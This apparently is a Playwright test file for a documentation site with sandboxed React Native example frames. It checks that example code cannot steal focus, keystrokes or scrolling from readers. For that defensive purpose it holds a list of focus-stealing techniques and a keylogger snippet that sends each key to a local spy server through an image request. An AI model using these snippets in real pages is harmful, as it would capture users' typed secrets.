import { expect, type Locator, type Page, test } from '@playwright/test';
import {
  attack,
  expectTried,
  expectTriedOrStopped,
  fieldExample,
  html,
  openTarget,
  RUN,
  runEdit,
  target,
} from './support/attack.ts';
import { enterPhone, phone, reachFor, screenOf } from './support/phones.ts';
import { searchDialog } from './support/searchDialog.ts';
import { type Spy, startSpy } from './support/spy.ts';

let spy: Spy;

test.beforeAll(async () => {
  spy = await startSpy();
});

test.afterAll(() => spy.stop());

/** Ways to take the focus, each tried repeatedly: one of each kind … */
const thefts: Readonly<Record<string, string>> = {
  'focus of a field': "document.querySelector('input').focus();",
  'a modal dialog': `${html('<dialog><input autofocus></dialog>')}document.querySelector('dialog').showModal();`,
  autofocus: html('<input autofocus><button autofocus>a</button>'),
  'an address of its own': `${html('<div id="here" tabindex="0">a</div>')}location.hash = 'here';`,
  'a nested frame': `${html('<iframe srcdoc="<input autofocus>"></iframe>')}document.querySelector('iframe').focus(); document.querySelector('iframe').contentWindow.focus();`,
  'its window': 'window.focus(); self.focus();',
  editing:
    "document.body.contentEditable = 'true'; document.body.focus(); document.designMode = 'on';",
  'full screen': 'document.documentElement.requestFullscreen().catch(() => undefined);',
  'focus of SVG':
    "const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); svg.tabIndex = 0; document.body.append(svg); svg.focus();",
  'focus of MathML':
    "const math = document.createElementNS('http://www.w3.org/1998/Math/MathML', 'math'); math.tabIndex = 0; document.body.append(math); math.focus();",
  'the prototype of another realm':
    "HTMLElement.prototype.focus.call(document.querySelector('input'));",
  'selecting text': "document.querySelector('input').select();",
  'a range of the selection': "document.querySelector('input').setSelectionRange(0, 1);",
  'a label': `${html('<label id="l">a<input></label>')}document.querySelector('#l').click();`,
  'a dialog': `${html('<dialog><input autofocus></dialog>')}document.querySelector('dialog').show();`,
  'a popover': `${html('<div popover><input autofocus></div>')}document.querySelector('[popover]').showPopover();`,
  'a captured pointer': 'document.documentElement.setPointerCapture(1);',
};

/** Reports every key that reaches the example to the page and to the spy. */
const LISTEN =
  "addEventListener('keydown', (event) => { console.log('STOLEN ' + event.key); new Image().src = 'SPY/stolen?' + event.key; }, true);";

/** Runs hostile statements with the address of the spy. */
const spyOn = (page: Page, statements: string) =>
  attack(page, statements.replaceAll('SPY', spy.origin));

/** Removes the frame's own `inert` from inside, then tries a way every 40 ms, whatever it throws. */
const insist = (statements: string) => `${LISTEN}
const again = () => { try { document.documentElement.inert = false; ${statements} } catch {} };
again();
setInterval(again, 40);
await new Promise((next) => setTimeout(next, 200));`;

function hearStolen(page: Page): string[] {
  const stolen: string[] = [];
  page.on('console', (message) => {
    if (message.text().includes('STOLEN')) {
      stolen.push(message.text());
    }
  });
  return stolen;
}

/** Opens the search as a reader would, by its button. */
async function openSearch(page: Page) {
  const search = searchDialog(page);
  await page.getByRole('button', { name: /검색/ }).first().click();
  await expect(search.input).toBeFocused(RUN);
  return search;
}

test('an example cannot take the focus from the search', async ({ page }) => {
  test.setTimeout(600_000);
  const stolen = hearStolen(page);
  await openTarget(page);
  for (const [way, statements] of Object.entries(thefts)) {
    await test.step(way, async () => {
      await spyOn(page, insist(statements));
      await expectTriedOrStopped(page);
      stolen.length = 0;
      const { input, dialog } = await openSearch(page);
      await input.pressSequentially('secret words', { delay: 30 });
      await expect.soft(input, `typed beside ${way}`).toHaveValue('secret words');
      await expect.soft(input, `focus beside ${way}`).toBeFocused();
      expect.soft(stolen, `keys stolen by ${way}`).toEqual([]);
      expect.soft(spy.requests.splice(0), `sent by ${way}`).toEqual([]);
      await input.clear();
      await page.keyboard.press('Escape');
      await expect(dialog).toBeHidden();
    });
  }
});

/** Event that an attack waits for: one that only the test triggers. */
const SIGNAL = "matchMedia('(prefers-contrast: more)').matches";

test('an example that takes the focus from a typing reader is stopped, and the focus is restored', async ({
  page,
}) => {
  const stolen = hearStolen(page);
  await openTarget(page);
  const theft = "document.documentElement.inert = false; document.querySelector('input').focus();";
  await spyOn(page, `${LISTEN} setInterval(() => { if (${SIGNAL}) { ${theft} } }, 40);`);
  await expectTried(page);
  const { input } = await openSearch(page);
  await input.pressSequentially('what a reader ');
  await page.emulateMedia({ contrast: 'more' });
  const isStopped = async () => {
    await page.keyboard.press('a');
    return phone(page, target.name).getAttribute('data-state');
  };
  await expect.poll(isStopped, { ...RUN, intervals: [50] }).toBe('stuck');
  await expect(input).toBeFocused();
  // At most the key that is being delivered when the focus moves.
  expect(stolen.length).toBeLessThanOrEqual(1);
  expect(spy.requests, 'nothing leaves the frame').toEqual([]);
});

test('an example can neither take focus nor keys, and scrolls nothing but itself', async ({
  page,
}) => {
  test.setTimeout(120_000);
  const stolen = hearStolen(page);
  await openTarget(page);
  const example = phone(page, target.name);

  await test.step('a field that wants the focus', async () => {
    await runEdit(
      page,
      `import { TextInput } from 'react-native';
export default function Honest() { return <TextInput autoFocus aria-label="먼저" />; }`,
    );
    await expect(screenOf(example).getByLabel('먼저')).toBeVisible(RUN);
    await expect(example.getByRole('textbox', { name: /코드/ })).toBeFocused();
    await expect(example).toHaveAttribute('data-state', 'running');
  });

  await test.step('a mouse that rests on the phone', async () => {
    await spyOn(page, `${LISTEN} document.querySelector('input').focus();`);
    await expectTried(page);
    await example.locator('[data-screen]').hover();
    await page.keyboard.type('abc', { delay: 30 });
    await expect(example.getByRole('textbox', { name: /코드/ })).toHaveValue(/abc/);
    expect.soft(stolen, 'keys under the mouse').toEqual([]);
  });

  await test.step('ways to scroll', async () => {
    await attack(
      page,
      `${html('<div style="height:9000px"></div><p id="far">far</p>')}
      const far = document.querySelector('#far');
      let tries = 0;
      setInterval(() => {
        try { far.scrollIntoView(); far.scrollIntoViewIfNeeded(); find('far'); location.hash = 'far'; } catch {}
        tries++;
        tell('시도 ' + tries);
      }, 40);`,
    );
    const tries = screenOf(example).getByText(/결과 시도/);
    const count = async () => Number((await tries.innerText()).replace(/\D/g, ''));
    await expect(tries).toBeVisible(RUN);
    await page.evaluate(() => window.scrollTo({ top: 0, behavior: 'instant' }));
    const before = await count();
    await expect.poll(count, RUN).toBeGreaterThan(before + 10);
    expect(await page.evaluate(() => window.scrollY)).toBe(0);
  });
});

const app = `import { useState } from 'react';
import { Pressable, Text, TextInput, View } from 'react-native';
export default function App() {
  const [times, setTimes] = useState(0);
  const [words, setWords] = useState('');
  return <View style={{ padding: 60, paddingTop: 20, gap: 2 }}>
    <Pressable onPress={() => setTimes(times + 1)}><Text style={{ fontSize: 40 }}>눌러</Text></Pressable>
    <Text>{'누른 횟수 ' + times}</Text>
    <TextInput aria-label="칸" onChangeText={setWords} style={{ height: 30 }} />
    <Text>{'쓴 글 ' + words}</Text>
  </View>;
}`;

/** Centre of an element of a phone in window coordinates: its frame may be scaled. */
async function middleOf(page: Page, shown: Locator): Promise<{ x: number; y: number }> {
  const frame = phone(page, target.name).locator('iframe[data-drawn]');
  await frame.scrollIntoViewIfNeeded();
  const inside = await shown.evaluate((element) => {
    const { left, top, width, height } = element.getBoundingClientRect();
    return { x: left + width / 2, y: top + height / 2 };
  });
  return frame.evaluate((element: HTMLIFrameElement, { x, y }) => {
    const { left, top, width } = element.getBoundingClientRect();
    const scale = width / element.offsetWidth;
    return { x: left + x * scale, y: top + y * scale };
  }, inside);
}

test('a phone receives presses, keys and Tab of its reader, and is inert again when they leave it', {
  tag: '@smoke',
}, async ({ page }) => {
  test.setTimeout(120_000);
  await openTarget(page);
  await runEdit(page, app);
  const example = phone(page, target.name);
  const screen = screenOf(example);
  const frame = example.locator('iframe[data-drawn]');
  const pressed = (times: number) =>
    expect(screen.getByText(`누른 횟수 ${times}`)).toBeVisible(RUN);
  const goOn = async () => {
    await page.getByRole('heading', { level: 1 }).click();
    await expect(frame).toHaveAttribute('inert', '', RUN);
  };
  const pressAt = async (shown: Locator, times = 1) => {
    const { x, y } = await middleOf(page, shown);
    for (let press = 0; press < times; press++) {
      await page.mouse.click(x, y);
    }
  };
  await pressed(0);
  const button = screen.getByText('눌러');
  await pressAt(button);
  await pressed(1);
  await pressAt(button);
  await pressed(2);
  await goOn();

  // Also while it becomes interactive.
  await pressAt(button, 12);
  await pressed(14);
  await expect(example.locator('.zs-play-enter')).toBeHidden();
  await goOn();

  const field = screen.getByRole('textbox', { name: '칸' });
  await pressAt(field);
  // Keys while the phone becomes interactive are not tested.
  await expect(field).toBeFocused();
  await page.keyboard.type('안녕');
  await expect(screen.getByText('쓴 글 안녕')).toBeVisible();
  await goOn();

  await example.getByRole('button', { name: /들어가기/ }).focus();
  await page.keyboard.press('Tab');
  await expect(button.locator('..')).toBeFocused();
  await page.keyboard.press('Enter');
  await pressed(15);
  await page.keyboard.press('Tab');
  await page.keyboard.press('Tab');
  // The frame is in another process, which sends the key to the page later.
  await expect(frame).toHaveAttribute('inert', '', RUN);
  expect(await page.evaluate(() => document.activeElement?.tagName)).not.toBe('IFRAME');
});

test('a press that the browser still delivers to the page once a phone is interactive lets its reader type', async ({
  page,
}) => {
  await openTarget(page);
  await runEdit(page, fieldExample);
  const example = phone(page, target.name);
  const field = screenOf(example).getByLabel('칸');
  await expect(field).toBeVisible(RUN);
  const { x, y } = await middleOf(page, field);
  // A browser that paints slowly hit-tests the page instead of the frame. The padding is always the page's.
  await example.locator('iframe[data-drawn]').evaluate((frame) => {
    frame.style.cssText += 'box-sizing: border-box; padding-top: 50px';
  });
  await enterPhone(example);
  await page.mouse.click(x, y);
  await expect(field).toBeFocused();
  await page.keyboard.type('안녕');
  await expect(field).toHaveValue('안녕');
});

test('a reader who is in a phone is in it still when its code has changed', async ({ page }) => {
  await page.goto('docs/UiComponent/ZSTextField/');
  const example = phone(page, 'ZSTextField.basic');
  await reachFor(example);
  await enterPhone(example);
  await example.locator('iframe').evaluate((frame) => {
    frame.dataset.before = '';
  });
  const control = example.locator('[data-control="boxStyle"] input[value=underline]');
  await control.evaluate((radio: HTMLInputElement) => {
    radio.checked = true;
    radio.dispatchEvent(new Event('input', { bubbles: true }));
    radio.dispatchEvent(new Event('change', { bubbles: true }));
  });
  await expect(example.locator('iframe[data-before]')).toHaveCount(0);
  await expect(example.locator('.zs-play-enter')).toBeHidden();
  await page.keyboard.press('Tab');
  await page.keyboard.type('abc');
  await expect(screenOf(example).getByRole('textbox')).toHaveValue('abc');
});
